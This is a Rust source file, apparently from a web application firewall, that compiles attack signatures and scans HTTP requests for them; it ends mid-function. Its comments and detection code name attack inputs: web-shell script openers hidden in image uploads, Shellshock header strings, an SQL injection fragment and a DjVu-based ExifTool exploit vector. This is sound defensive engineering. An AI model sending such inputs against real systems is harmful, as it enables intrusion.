//! Compiling pattern specs into multi-pattern groups and running them over a request.

use std::borrow::Cow;
use std::collections::hash_map::Entry;
use std::collections::HashMap;
use std::path::{Path, PathBuf};

use aho_corasick::AhoCorasick;
use palisade_engine::value_cache::{ValueCache, MAX_KEY_LEN};
use palisade_engine::{Detector, Finding, ResponseModel};
use palisade_http::transform::apply_steps;
use palisade_http::{BodyKind, RequestModel, Transform};
use regex_automata::{meta, PatternSet};

use crate::format::{
    parse_source, read_dir, FileKind, LoadError, PatternSpec, SignatureSource, Target,
};
use crate::prefilter::{required_rare_byte, RARE_BYTES, STRONG_RARE_BYTES};

/// Per-pattern data needed to report (and, for regexes, confirm) a hit.
struct PatternInfo {
    id: String,
    category: String,
    message: String,
    severity: palisade_engine::Severity,
    paranoia: u8,
    /// Confirms a candidate hit on a single value and gives the matched span.
    confirm: Option<regex::bytes::Regex>,
    /// The same pattern in multi-line mode, to find candidates in the joined haystack.
    scan: Option<regex::bytes::Regex>,
    /// For literals: confirms a hit on this pattern's own pipeline variant.
    literal: Option<AhoCorasick>,
    /// Index of the transformation pipeline the pattern is matched after.
    pipeline: usize,
}

/// All patterns of one target, whatever their pipelines, run over every distinct
/// transformed variant of the target's values: one Aho-Corasick pass finds literal patterns
/// and the required literals of regexes; regexes without a usable literal share one
/// multi-pattern lazy DFA; only regexes that may match are then run on their own.
struct Group {
    target: Target,
    /// Pipelines used by this group's patterns.
    pipelines: Vec<usize>,
    /// Same, as a bit mask.
    pipeline_mask: u64,
    ac: Option<crate::interleaved::LiteralAutomaton>,
    /// When none of its bytes or words occurs in the haystack, no pattern found through the
    /// Aho-Corasick scan can match, and the scan is skipped. None when some pattern offers
    /// neither.
    ac_gate: Option<Gate>,
    /// Whether the gate can be asked of a value before its variants are computed (see
    /// [`keeps_gate_closed`]): closed on a value without NUL, it is closed on every variant,
    /// and the value holds no match of the group's patterns.
    gate_before_variants: bool,
    /// What each Aho-Corasick pattern stands for.
    ac_entries: Vec<AcEntry>,
    literal_info: Vec<PatternInfo>,
    /// Regexes with no required literal (indices into `regex_info` in `always_ids`).
    always: Option<meta::Regex>,
    always_ids: Vec<usize>,
    /// How plain values are scanned for the `always` regexes that can match one (the
    /// rest cannot): None when they stay in `always`'s scan.
    plain_scan: Option<crate::plain::PlainScan>,
    regex_info: Vec<PatternInfo>,
}

/// Bytes (at most six) and words such that every match of every pattern of a group's
/// Aho-Corasick scan holds one of them: a JSON document or a form body holds none of the
/// `<`, `(`, `>` and the `filename`, `xmlns:` of the upload and XXE patterns.
struct Gate {
    bytes: Vec<u8>,
    /// Matched ignoring ASCII case, as the patterns are; grouped by the byte searched for
    /// (see [`GateWord`]), one search per group.
    words: Vec<Vec<GateWord>>,
}

impl Gate {
    fn open(&self, hay: &[u8]) -> bool {
        any_byte_in(hay, &self.bytes) || self.words.iter().any(|group| occurs_in(group, hay))
    }
}

/// Whether `t`, applied to a value without NUL on which `gate` is closed, yields one on which
/// it is closed too. `removeNulls` leaves such a value as it is; `compressWhitespace` only
/// turns runs of whitespace into one space, so a result's bytes are the value's and spaces,
/// and a run of other bytes in the result is one of the value's: neither a gate byte nor a
/// gate word can appear unless it is whitespace or holds some.
fn keeps_gate_closed(t: &Transform, gate: &Gate) -> bool {
    let whitespace = |b: &u8| b.is_ascii_whitespace() || matches!(*b, 0x0b | 0xa0 | 0);
    let words_plain = gate
        .words
        .iter()
        .flatten()
        .all(|w| !w.word.iter().any(whitespace));
    let bytes_plain = !gate.bytes.iter().any(whitespace);
    match t {
        Transform::RemoveNulls | Transform::None => true,
        Transform::CompressWhitespace => words_plain && bytes_plain,
        _ => false,
    }
}

/// Whether one of `words`, which share their anchor letter, occurs in `hay`.
fn occurs_in(words: &[GateWord], hay: &[u8]) -> bool {
    let Some(anchor) = words.first().map(GateWord::anchor) else {
        return false;
    };
    let (lower, upper) = (anchor, anchor.to_ascii_uppercase());
    memchr::memchr2_iter(lower, upper, hay).any(|at| words.iter().any(|w| w.occurs_at(hay, at)))
}

/// A word of a [`Gate`], found by a vectorized search for its rarest letter (either case)
/// and a comparison around each occurrence. An automaton over the words would be no
/// faster on long bodies, and its own prefilter, free to pick a byte such as the `:` of
/// `xmlns:`, would stop at every key of a JSON document.
struct GateWord {
    /// Not empty.
    word: Vec<u8>,
    /// Where in the word the searched byte is.
    anchor_at: usize,
}

/// ASCII letters, rarest in ordinary text first.
const LETTERS_RAREST_FIRST: &[u8] = b"zqxjkvbpygfwmucldrhsnioate";

impl GateWord {
    fn new(word: Vec<u8>) -> GateWord {
        let anchor_at = LETTERS_RAREST_FIRST
            .iter()
            .find_map(|&l| word.iter().position(|b| b.eq_ignore_ascii_case(&l)))
            .unwrap_or(0);
        GateWord { word, anchor_at }
    }

    /// The searched letter, lowercased.
    fn anchor(&self) -> u8 {
        self.word[self.anchor_at].to_ascii_lowercase()
    }

    /// Whether the word occurs with its anchor at `at`.
    fn occurs_at(&self, hay: &[u8], at: usize) -> bool {
        at.checked_sub(self.anchor_at)
            .and_then(|start| hay.get(start..start + self.word.len()))
            .is_some_and(|w| w.eq_ignore_ascii_case(&self.word))
    }
}

/// What one pattern offers its group's gate.
struct GateNeed {
    /// A byte of [`STRONG_RARE_BYTES`] that every match holds.
    strong: Option<u8>,
    /// Strings one of which every match holds (the literal itself, or a regex's required
    /// literals).
    words: Option<Vec<Vec<u8>>>,
    /// A byte of [`RARE_BYTES`] that every match holds.
    rare: Option<u8>,
}

impl GateNeed {
    fn of_literal(literal: &[u8]) -> GateNeed {
        let first_in = |set: &[u8]| set.iter().copied().find(|b| literal.contains(b));
        GateNeed {
            strong: first_in(STRONG_RARE_BYTES),
            words: Some(vec![literal.to_vec()]),
            rare: first_in(RARE_BYTES),
        }
    }
}

/// Shortest word a gate searches for: shorter ones are in too many ordinary values.
const MIN_GATE_WORD: usize = 4;
/// Most words a gate searches for.
const MAX_GATE_WORDS: usize = 8;

/// The longest string of at least [`MIN_GATE_WORD`] bytes that every one of `words` holds
/// (`filename` for `filename=`, `filename =`, `filename*=`...), or None.
fn common_word(words: &[Vec<u8>]) -> Option<Vec<u8>> {
    let shortest = words.iter().min_by_key(|w| w.len())?;
    (MIN_GATE_WORD..=shortest.len()).rev().find_map(|len| {
        shortest.windows(len).find_map(|candidate| {
            words
                .iter()
                .all(|w| w.windows(len).any(|x| x.eq_ignore_ascii_case(candidate)))
                .then(|| candidate.to_vec())
        })
    })
}

/// A group's gate from what each of its patterns offers: its strong rare byte when it has
/// one, else the word all its words share, else its rare byte. None when one pattern
/// offers nothing, or more than six bytes or [`MAX_GATE_WORDS`] words would be needed
/// (searching for more costs about as much as the scan it could save).
fn gate_of(needs: &[GateNeed]) -> Option<Gate> {
    let mut bytes: Vec<u8> = Vec::new();
    let mut words: Vec<Vec<u8>> = Vec::new();
    for need in needs {
        let byte = if let Some(strong) = need.strong {
            strong
        } else if let Some(word) = need.words.as_deref().and_then(common_word) {
            words.push(word);
            continue;
        } else {
            need.rare?
        };
        if !bytes.contains(&byte) {
            bytes.push(byte);
        }
    }
    words.sort_unstable();
    words.dedup();
    if bytes.len() > 6 || words.len() > MAX_GATE_WORDS || (bytes.is_empty() && words.is_empty()) {
        return None;
    }
    // a word holding another is found through it
    let contains = |w: &[u8], other: &[u8]| {
        w.len() > other.len()
            && w.windows(other.len())
                .any(|x| x.eq_ignore_ascii_case(other))
    };
    let kept: Vec<GateWord> = words
        .iter()
        .filter(|w| !words.iter().any(|other| contains(w, other)))
        .map(|w| GateWord::new(w.clone()))
        .collect();
    let mut groups: Vec<Vec<GateWord>> = Vec::new();
    for w in kept {
        match groups.iter_mut().find(|g| g[0].anchor() == w.anchor()) {
            Some(group) => group.push(w),
            None => groups.push(vec![w]),
        }
    }
    Some(Gate {
        bytes,
        words: groups,
    })
}

enum AcEntry {
    /// A literal pattern (index into `literal_info`).
    Literal(usize),
    /// A required literal of these regexes (indices into `regex_info`).
    Required(Vec<usize>),
    /// A word that the `prefixed` regexes of the plain scan need in a plain value.
    PlainWord,
}

/// Counts for the startup log line.
#[derive(Debug, Clone, Default)]
pub struct SignatureStats {
    pub files: usize,
    pub literals: usize,
    pub regexes: usize,
    /// Regexes with a required-literal prefilter (the rest always run in a shared DFA).
    pub prefiltered: usize,
    pub groups: usize,
}

/// A compiled, immutable set of signature lists.
pub struct SignatureSet {
    pipelines: Vec<Vec<Transform>>,
    /// For each pipeline, the longest other pipeline that is a prefix of it, and its length.
    pipeline_parent: Vec<Option<(usize, usize)>>,
    /// For each pipeline, a mask of the pipelines whose results need it (itself included).
    pipeline_closure: Vec<u64>,
    /// For each pipeline, which plain values (`transform::is_plain`) it leaves unchanged up
    /// to ASCII case: 1 = all, 2 = those without `,` (cmdLine turns `,` into a space),
    /// 3 = none.
    pipeline_plain_level: Vec<u8>,
    /// For each plain level of a value (0, 1, 2), the pipelines that leave it unchanged.
    identity_masks: [u64; 3],
    groups: Vec<Group>,
    /// Bit set of targets that have at least one group.
    targets: u8,
    /// Bit set of targets all of whose groups have `gate_before_variants`.
    gated_targets: u8,
    stats: SignatureStats,
    /// Header values known to match nothing: the same browser lines come with every request.
    /// Keyed by [`clean_key`]; findings depend only on those bytes within one set.
    clean_headers: ValueCache<()>,
    /// Response bodies shorter than this match no `response` pattern (an API's `ok` or
    /// `{}`, a 204's empty body): they are not transformed or scanned.
    response_min_len: usize,
    /// No `args` pattern can match in a decimal number ([`is_number`]; proven when the set
    /// is compiled): such argument values, left as they are by every pipeline, are not
    /// locations (a JSON order's quantities and prices, a query's `page=2`).
    args_skip_numbers: bool,
}

/// How a location's variants are found in [`SignatureSet::run`].
#[derive(Clone, Copy)]
enum Row {
    /// Every pipeline leaves the value as it is.
    Plain,
    /// Its variants start at this offset of the variants table.
    At(usize),
    /// Looked at only by groups whose gates are closed on it: it holds no match.
    GatedOut,
}

/// One value after one pipeline.
enum Variant {
    /// Not needed for this value.
    Unused,
    /// Identical to the original value.
    Original,
    /// Identical to the result of another pipeline (its prefix).
    Alias(usize),
    Owned(Vec<u8>),
}

/// How plain a value is for `identity_masks`: 0 = not plain, 1 = plain, 2 = plain but for
/// `,` ([`palisade_http::transform::plain_kind`]).
fn plain_level(value: &[u8]) -> u8 {
    match palisade_http::transform::plain_kind(value) {
        None => 0,
        Some(true) => 1,
        Some(false) => 2,
    }
}

/// The bytes of `v` within one value's row of variants.
fn resolve<'a>(row: &'a [Variant], v: &'a Variant, original: &'a [u8]) -> &'a [u8] {
    let mut v = v;
    loop {
        match v {
            Variant::Owned(bytes) => return bytes,
            Variant::Alias(p) => v = &row[*p],
            Variant::Original | Variant::Unused => return original,
        }
    }
}

/// Where a value was found; turned into a target name only when reporting.
#[derive(Clone, Copy)]
enum Place<'r> {
    Uri,
    /// One segment of the request path, percent-decoded once (REST parameters such as
    /// `/products/{id}/reviews` carry user values there).
    PathSegment,
    ArgValue(&'r str),
    /// The text an argument value holds in base64 (or one field of it, when that text is a
    /// JSON document): reported as the argument, its message saying it was decoded.
    ArgValueBase64(&'r str),
    ArgName(&'r str),
    CookieValue(&'r str),
    CookieValueBase64(&'r str),
    CookieName(&'r str),
    Header(&'r str),
    FileName(&'r str),
    FileContent(&'r str),
    Body,
    Response,
}

impl Place<'_> {
    fn target_name(&self) -> String {
        match self {
            Place::Uri => "REQUEST_URI".to_string(),
            Place::PathSegment => "REQUEST_FILENAME".to_string(),
            Place::ArgValue(n) | Place::ArgValueBase64(n) => format!("ARGS:{n}"),
            Place::ArgName(n) => format!("ARGS_NAMES:{n}"),
            Place::CookieValue(n) | Place::CookieValueBase64(n) => {
                format!("REQUEST_COOKIES:{n}")
            }
            Place::CookieName(n) => format!("REQUEST_COOKIES_NAMES:{n}"),
            Place::Header(n) => format!("REQUEST_HEADERS:{n}"),
            Place::FileName(n) => format!("FILES:{n}"),
            Place::FileContent(n) => format!("FILES_CONTENT:{n}"),
            Place::Body => "REQUEST_BODY".to_string(),
            Place::Response => "RESPONSE_BODY".to_string(),
        }
    }
}

struct Location<'r> {
    place: Place<'r>,
    value: &'r [u8],
    /// Bit set of [`Target`]s this value is matched against.
    targets: u8,
    /// The first of this location's [`Repeat`]s (NO_REPEAT when it has none).
    repeat_head: u32,
}

/// A location that is not one of its own but hangs off an earlier kept location (its
/// *head*), because scanning it would find what scanning the head finds (a 140-item order
/// has 700 repeated names and 140 copies of each repeated note, each costing the whole
/// per-location bookkeeping): a candidate found in the head is confirmed in each repeat too,
/// and reported in request order. Two kinds:
/// - a body argument name that is the head's but for array index digits (`items.7.sku`
///   after `items.0.sku`, [`palisade_http::Arg::name_repeats`]), when every pipeline leaves
///   both as they are: confirmed on its own bytes. A pattern that could match only through
///   the digits would match text the client never sent.
/// - an argument value with the same bytes as the head's (`same_as`): every pipeline
///   gives it the head's results, which it is confirmed on.
struct Repeat<'r> {
    /// `Place::ArgName` (a name repeat) or `Place::ArgValue` (a value repeat).
    place: Place<'r>,
    /// Its bytes as sent.
    value: &'r [u8],
    /// A value repeat: the index of its head in the kept locations, whose bytes these are.
    same_as: Option<u32>,
    /// How many kept locations come before it in request order.
    kept_before: u32,
    /// Another repeat of the same location, the one added before this (NO_REPEAT after the
    /// first added): the list runs newest first, and findings are sorted into request
    /// order anyway.
    next: u32,
}

const NO_REPEAT: u32 = u32::MAX;

/// A pattern is reported for at most this many locations per request: enough to show where
/// an attack is and to score it, and it bounds the work a request full of matches can cause.
const MAX_LOCATIONS_PER_PATTERN: usize = 8;

fn is_binary_type(mime: &str) -> bool {
    palisade_http::is_binary_media_type(&mime.trim().to_ascii_lowercase())
}

/// Whether a Cookie header line has a non-blank `;`-separated part with no `=`.
fn has_part_without_value(line: &[u8]) -> bool {
    line.split(|&b| b == b';')
        .any(|part| !part.contains(&b'=') && part.iter().any(|b| !b.is_ascii_whitespace()))
}

/// Whether an upload declared binary holds a server-side script opening tag (`<?php`, `<?=`,
/// short tags, `<%@`, `<%=`, `<%!`, scriptlets, `runat=`, `<jsp:`): the part's type is the
/// client's word, and a web shell sent as `image/jpeg` behind a `GIF89a` header (a
/// polyglot the server runs by its file name) is an upload attack. Such parts are read by
/// the body lists as a text part is. Random bytes hold a two-byte opener every 64 KB or
/// so, often followed by a letter: about half of 1 MB random files qualify and are
/// scanned (the review measured +40 ms over 200 of them), the price of not trusting the
/// declared type.
/// A DjVu document, whatever the part declares (`image/jpeg`): ExifTool before 12.24 ran
/// Perl from a DjVu annotation chunk (CVE-2021-22205), so its annotations are read as
/// text. The magic is at the start: one comparison per part.
fn is_djvu(content: &[u8]) -> bool {
    content.starts_with(b"AT&TFORM")
}

fn holds_server_script_tag(content: &[u8]) -> bool {
    // `<?php`, `<?=`, short tags (`<?system(...)`, `<? `), `<%@`, `<%=`, `<%!`, `<%:`,
    // scriptlets (`<%Runtime...`): the opener then a letter, `$`, space or one of those marks
    let opens = |at: usize, marks: &[u8]| {
        content.get(at + 2).is_some_and(|&b| {
            b.is_ascii_alphabetic() || b.is_ascii_whitespace() || b == b'$' || marks.contains(&b)
        })
    };
    memchr::memmem::find_iter(content, b"<?").any(|at| opens(at, b"="))
        || memchr::memmem::find_iter(content, b"<%").any(|at| opens(at, b"@=!:#"))
        || memchr::memmem::find(content, b"runat=").is_some()
        || memchr::memmem::find(content, b"<jsp:").is_some()
}

impl SignatureSet {
    /// The built-in default set compiled into the binary.
    pub fn builtin() -> Result<SignatureSet, LoadError> {
        SignatureSet::from_sources(builtin_sources()?)
    }

    /// Builds a set from sources (built-in ones, directories, user-agent lists, in any mix).
    pub fn from_sources(sources: Vec<SignatureSource>) -> Result<SignatureSet, LoadError> {
        let mut specs = Vec::new();
        for source in &sources {
            specs.extend(parse_source(source)?);
        }
        let mut set = compile(specs)?;
        set.stats.files = sources.len();
        Ok(set)
    }

    /// Whether `id` names a loaded pattern (`builtin:args/sqli.re:12`) or a file or source
    /// of them (`builtin:args/sqli.re`, `builtin`), as a policy's `disabled_rules` entry does.
    pub fn has_rule(&self, id: &str) -> bool {
        self.groups
            .iter()
            .flat_map(|g| g.literal_info.iter().chain(&g.regex_info))
            .any(|p| palisade_engine::policy::rule_id_covers(id, &p.id))
    }

    pub fn stats(&self) -> &SignatureStats {
        &self.stats
    }

    /// Runs every group against the request and appends findings.
    pub fn match_request(&self, request: &RequestModel, paranoia: u8, out: &mut Vec<Finding>) {
        // A set without request patterns (`--no-builtin-signatures`, CRS alone) has nothing
        // to look for: the locations, their decoding and the clean-header memo are skipped
        // (~1% of a CRS-only proxy's CPU per GET).
        if self.targets & !Target::Response.bit() == 0 {
            return;
        }
        let uri = if request.query_raw.is_empty() {
            Cow::Borrowed(request.path_raw.as_bytes())
        } else {
            let mut u = Vec::with_capacity(request.path_raw.len() + request.query_raw.len() + 1);
            u.extend_from_slice(request.path_raw.as_bytes());
            u.push(b'?');
            u.extend_from_slice(request.query_raw.as_bytes());
            Cow::Owned(u)
        };
        // (no args list: no segment is looked at, so none is decoded)
        let segments = if self.targets & Target::Args.bit() != 0 {
            path_segments(&request.path_raw)
        } else {
            Vec::new()
        };
        let decoded = if self.targets & Target::Args.bit() != 0 {
            base64_values(request)
        } else {
            Vec::new()
        };
        let documents = if self.targets & Target::Args.bit() != 0 {
            graphql_documents_on_one_line(request)
        } else {
            Vec::new()
        };
        let (mut locations, repeats) =
            self.request_locations(request, &uri, &segments, &decoded, &documents);
        // Header values seen clean before (the same browser lines on every request) are not
        // transformed or scanned again. Credential headers (Cookie, Authorization, tokens)
        // are not remembered: their session ids make nearly every line new (they would only
        // churn the cache), and they are secrets that have no business staying in memory
        // past the request.
        let is_header = |l: &Location<'_>| matches!(l.place, Place::Header(name) if !palisade_http::is_credential_header(name));
        // the longest key, so that no header's key regrows it
        let mut key = Vec::with_capacity(MAX_KEY_LEN);
        locations.retain(|l| {
            !(is_header(l)
                && clean_key(&mut key, l.targets, paranoia, l.value)
                && self.clean_headers.get(&key).is_some())
        });
        let mut touched = vec![false; locations.len()];
        self.run(&locations, &repeats, paranoia, out, &mut touched);
        for (loc, touched) in locations.iter().zip(&touched) {
            if is_header(loc) && !touched && clean_key(&mut key, loc.targets, paranoia, loc.value) {
                self.clean_headers.insert(&key, ());
            }
        }
    }

    /// Runs the `response` groups against a buffered response body.
    pub fn match_response(&self, response: &ResponseModel, paranoia: u8, out: &mut Vec<Finding>) {
        if self.targets & Target::Response.bit() == 0
            || response.body.len() < self.response_min_len.max(1)
        {
            return;
        }
        let locations = [Location {
            place: Place::Response,
            value: &response.body,
            targets: Target::Response.bit(),
            repeat_head: NO_REPEAT,
        }];
        let mut touched = [false];
        self.run(&locations, &[], paranoia, out, &mut touched);
    }

    /// The request's locations in request order, and the body argument names kept out of
    /// them as [`Repeat`]s of an earlier one (in request order too).
    fn request_locations<'r>(
        &self,
        request: &'r RequestModel,
        uri: &'r [u8],
        segments: &'r [Cow<'r, [u8]>],
        decoded: &'r [(Place<'r>, Vec<u8>)],
        documents: &'r [(*const u8, Vec<u8>)],
    ) -> (Vec<Location<'r>>, Vec<Repeat<'r>>) {
        let args = Target::Args.bit();
        let mut repeats: Vec<Repeat<'r>> = Vec::new();
        // the pipelines computed for argument values, once needed
        let mut args_computed: Option<u64> = None;
        let mut locs = Vec::with_capacity(
            8 + segments.len()
                + decoded.len()
                + 2 * request.args_get.len()
                + request.headers.len()
                + 2 * request.cookies.len()
                + request
                    .body
                    .as_ref()
                    .map_or(0, |b| 2 * b.args.len() + b.files.len()),
        );
        locs.push(Location {
            place: Place::Uri,
            value: uri,
            targets: Target::Url.bit(),
            repeat_head: NO_REPEAT,
        });
        // Path segments are argument values: an injection in `/users/{id}` is one in `?id=`
        // (plain names and numbers are already left out by `path_segments`).
        for segment in segments {
            locs.push(Location {
                place: Place::PathSegment,
                value: segment,
                targets: args,
                repeat_head: NO_REPEAT,
            });
        }
        let get_args = request.args_get.iter();
        // (walked as a slice: a `flat_map` over the optional body checked its state per item)
        let body_arg_list = request.body.as_ref().map_or(&[][..], |b| &b.args[..]);
        let body_args = body_arg_list.iter();
        // For each body argument, for `name_repeats`: the location of its name when the
        // name is one (else NO_NAME), and for a chain's first name whether every pipeline
        // leaves it as it is (UNKNOWN until asked). One vector: one push and one bounds
        // check per argument.
        let body_args_len = body_arg_list.len();
        let mut body_names: Vec<(u32, u8)> = Vec::with_capacity(body_args_len);
        const NO_NAME: u32 = u32::MAX;
        let mut next_document = 0;
        // Repeats are sized once, at the first: a large order's hundreds would be copied
        // as they grow. Each argument is at most a name and a value repeat.
        let most_repeats = 2 * (request.args_get.len() + body_args_len);
        // The first kept location of each argument value long enough to be looked up
        // (see MIN_DEDUP_LEN), for value repeats. Keyed: a request cannot choose values
        // that collide.
        let mut value_at: HashMap<&[u8], u32, foldhash::fast::RandomState> = HashMap::default();
        // For the body argument heading each name chain (`items.0.note` for every
        // `items.N.note`, see `Arg::name_repeats`): the chain's last argument whose value
        // was looked up, and the location holding that value. An array's items mostly
        // repeat the previous item's value (a note, a currency, a status): compared with
        // it, such a value needs no hashing. Sized at the first use.
        let mut chain_value: Vec<(u32, u32)> = Vec::new();
        const NO_VALUE: u32 = u32::MAX;
        const UNKNOWN: u8 = 0;
        const YES: u8 = 1;
        const NO: u8 = 2;
        // A set without argument patterns (user-agent lists alone, as beside CRS) looks at
        // no argument, cookie or GraphQL string: a 700-leaf JSON order's locations were
        // most of such a set's cost.
        let wants_args = self.targets & args != 0;
        for (i, arg) in get_args
            .map(|a| (None, a))
            .chain(body_args.enumerate().map(|(i, a)| (Some(i), a)))
            .take_while(|_| wants_args)
        {
            // (each an inline-or-heap type: read once, not at every use)
            let (arg_name, arg_value): (&str, &[u8]) = (&arg.name, &arg.value);
            let number = self.args_skip_numbers && is_number(arg_value) && {
                let computed =
                    *args_computed.get_or_insert_with(|| self.computed_pipelines(args).1);
                computed & !self.identity_masks[usize::from(number_plain_level(arg_value))] == 0
            };
            if !number {
                // a GraphQL document is scanned as one line (see graphql_documents_on_one_line;
                // its documents come in this loop's order, so the next one is the only one
                // this argument can be)
                let (value, document) = match documents.get(next_document) {
                    Some((at, flat)) if std::ptr::eq(*at, arg_value.as_ptr()) => {
                        next_document += 1;
                        (&flat[..], true)
                    }
                    _ => (arg_value, false),
                };
                let mut head = None;
                if !document && (MIN_DEDUP_LEN..=MAX_DEDUP_LEN).contains(&value.len()) {
                    let chain = i.map(|i| arg.name_repeats.map_or(i, |first| first as usize));
                    if let Some(c) = chain {
                        if chain_value.is_empty() {
                            chain_value = vec![(NO_VALUE, 0); body_args_len];
                        }
                        if let Some(&(last, at)) = chain_value.get(c) {
                            if body_arg_list
                                .get(last as usize)
                                .is_some_and(|prev| *prev.value == *value)
                            {
                                head = Some(at);
                            }
                        }
                    }
                    // (a request has fewer locations than u32::MAX: its size is bounded)
                    if head.is_none() {
                        match value_at.entry(value) {
                            Entry::Occupied(e) => head = Some(*e.get()),
                            Entry::Vacant(e) => {
                                e.insert(locs.len() as u32);
                            }
                        }
                    }
                    if let Some((c, i)) = chain.zip(i) {
                        if let Some(slot) = chain_value.get_mut(c) {
                            *slot = (i as u32, head.unwrap_or(locs.len() as u32));
                        }
                    }
                }
                if let Some(at) = head {
                    if repeats.capacity() == 0 {
                        repeats.reserve(most_repeats);
                    }
                    repeats.push(Repeat {
                        place: Place::ArgValue(arg_name),
                        value,
                        same_as: Some(at),
                        kept_before: locs.len() as u32,
                        next: locs[at as usize].repeat_head,
                    });
                    locs[at as usize].repeat_head = (repeats.len() - 1) as u32;
                } else {
                    locs.push(Location {
                        place: Place::ArgValue(arg_name),
                        value,
                        targets: args,
                        repeat_head: NO_REPEAT,
                    });
                }
            }
            let Some(i) = i else {
                if !arg_name.is_empty() {
                    locs.push(Location {
                        place: Place::ArgName(arg_name),
                        value: arg_name.as_bytes(),
                        targets: args,
                        repeat_head: NO_REPEAT,
                    });
                }
                continue;
            };
            body_names.push((NO_NAME, UNKNOWN));
            if arg_name.is_empty() {
                continue;
            }
            // the flattener names the first of the chain, a name that is a location itself
            let first = arg
                .name_repeats
                .map(|first| first as usize)
                .and_then(|first| {
                    let &(at, unchanged) = body_names.get(first)?;
                    (at != NO_NAME).then_some((first, at as usize, unchanged))
                });
            if let Some((first, at, mut unchanged)) = first {
                // whether every pipeline leaves the first name as it is (then so it does
                // the repeat, which differs only in digits), once per first name
                if unchanged == UNKNOWN {
                    let computed =
                        *args_computed.get_or_insert_with(|| self.computed_pipelines(args).1);
                    unchanged = if self.leaves_unchanged(computed, locs[at].value) {
                        YES
                    } else {
                        NO
                    };
                    body_names[first].1 = unchanged;
                }
                if unchanged == YES {
                    if repeats.capacity() == 0 {
                        repeats.reserve(most_repeats);
                    }
                    // (a body has at most `max_leaves` arguments: these counts fit in u32)
                    repeats.push(Repeat {
                        place: Place::ArgName(arg_name),
                        value: arg_name.as_bytes(),
                        same_as: None,
                        kept_before: locs.len() as u32,
                        next: locs[at].repeat_head,
                    });
                    locs[at].repeat_head = (repeats.len() - 1) as u32;
                    continue;
                }
            }
            // (a request has fewer locations than u32::MAX: its size is bounded)
            body_names[i].0 = locs.len() as u32;
            locs.push(Location {
                place: Place::ArgName(arg_name),
                value: arg_name.as_bytes(),
                targets: args,
                repeat_head: NO_REPEAT,
            });
        }
        // GraphQL documents sent as a `query` argument (query string or JSON body): their
        // string literals are argument values, as an application/graphql body's are
        for arg in request.graphql_args.iter().take_while(|_| wants_args) {
            locs.push(Location {
                place: Place::ArgValue(&arg.name),
                value: &arg.value,
                targets: args,
                repeat_head: NO_REPEAT,
            });
            locs.push(Location {
                place: Place::ArgName(&arg.name),
                value: arg.name.as_bytes(),
                targets: args,
                repeat_head: NO_REPEAT,
            });
        }
        for cookie in request.cookies.iter().take_while(|_| wants_args) {
            locs.push(Location {
                place: Place::CookieValue(&cookie.name),
                value: &cookie.value,
                targets: args,
                repeat_head: NO_REPEAT,
            });
            locs.push(Location {
                place: Place::CookieName(&cookie.name),
                value: cookie.name.as_bytes(),
                targets: args,
                repeat_head: NO_REPEAT,
            });
        }
        for (place, value) in decoded {
            locs.push(Location {
                place: *place,
                value,
                targets: args,
                repeat_head: NO_REPEAT,
            });
        }
        for (name, value) in request.headers.iter() {
            // Structural headers, Cookie among them (its cookies are args one by one), get
            // only the header lists. Those see the Cookie header whole when a part of it is
            // no `name=value` pair: a CGI program reads it whole from HTTP_COOKIE, where
            // Shellshock's `() { :; };` survives though no single cookie holds it, and its
            // ` }` is such a part. Well-formed lines (nearly all) are left to the cookie
            // values, which already cover them: scanning each session's line again would
            // cost a tenth of a GET's inspection. A line holding `(` is read whole too: bash
            // takes `() { _=1 & } && cmd`, whose parts all have an `=`. (Excerpts are
            // redacted like a cookie's.)
            if name.eq_ignore_ascii_case("cookie")
                && !has_part_without_value(value)
                && memchr::memchr(b'(', value).is_none()
            {
                continue;
            }
            let mut targets = Target::Headers.bit();
            if !palisade_http::is_structural_header(name) {
                targets |= args;
            }
            if name.eq_ignore_ascii_case("user-agent") {
                targets |= Target::Agents.bit();
            }
            locs.push(Location {
                place: Place::Header(name),
                value,
                targets,
                repeat_head: NO_REPEAT,
            });
        }
        if let Some(body) = &request.body {
            for file in &body.files {
                locs.push(Location {
                    place: Place::FileName(&file.field),
                    value: file.filename.as_bytes(),
                    targets: args,
                    repeat_head: NO_REPEAT,
                });
                let text_part = file
                    .content_type
                    .as_deref()
                    .is_none_or(|ct| !is_binary_type(ct))
                    || holds_server_script_tag(&file.content)
                    || is_djvu(&file.content);
                if text_part && !file.content.is_empty() {
                    locs.push(Location {
                        place: Place::FileContent(&file.field),
                        value: &file.content,
                        targets: Target::Body.bit(),
                        repeat_head: NO_REPEAT,
                    });
                }
            }
            let mime = request.mime_type().unwrap_or_default();
            let multipart = mime.starts_with("multipart/");
            // A body declared binary is read when it holds a server script opener, as an
            // upload part is: `PUT /uploads/x.php` with `image/gif` and `GIF89a<?php ...`.
            let text_body =
                !is_binary_type(&mime) || holds_server_script_tag(&body.raw) || is_djvu(&body.raw);
            if !body.raw.is_empty() && !multipart && text_body {
                // A text/plain or untyped body no parser took apart, or one that is not what
                // its type says and gave no fields (`{"q": ' OR 1=1 --` sent as JSON), is
                // one value the application may read as it likes (PHP's php://input,
                // lenient JSON parsers): the args lists see it whole, as they see a parsed
                // body's fields. Other types (text/html, application/sql, scripts, CSV) are
                // documents, as uploads are; so is a body that names a secret (`password=`),
                // whose matched text would otherwise reach the audit log unredacted.
                let unparsed = ((body.kind == BodyKind::Raw
                    && (mime.is_empty() || mime == "text/plain"))
                    || (!body.errors.is_empty() && body.args.is_empty()))
                    && !holds_a_secret_field(&body.raw);
                locs.push(Location {
                    place: Place::Body,
                    value: &body.raw,
                    targets: Target::Body.bit() | if unparsed { args } else { 0 },
                    repeat_head: NO_REPEAT,
                });
                // A JSON document followed by more text (`{"c": "hi"} <script>...`): the
                // fields are values already, and so is the text the parser stopped at.
                if let Some(tail) =
                    json_tail(body).filter(|t| !t.is_empty() && !holds_a_secret_field(t))
                {
                    locs.push(Location {
                        place: Place::Body,
                        value: tail,
                        targets: args,
                        repeat_head: NO_REPEAT,
                    });
                }
            }
        }
        (locs, repeats)
    }

    /// Which pipelines a value matched against `targets` needs (its groups' own), and which
    /// must be computed for them (those and the prefixes they start from).
    fn computed_pipelines(&self, targets: u8) -> (u64, u64) {
        let needed = self
            .groups
            .iter()
            .filter(|g| targets & g.target.bit() != 0)
            .fold(0u64, |acc, g| acc | g.pipeline_mask);
        let computed = (0..self.pipelines.len())
            .filter(|&p| needed & self.pipeline_closure[p] != 0)
            .fold(0u64, |m, p| m | (1u64 << p));
        (needed, computed)
    }

    /// Whether every pipeline in `computed` leaves `value` as it is (up to ASCII case).
    fn leaves_unchanged(&self, computed: u64, value: &[u8]) -> bool {
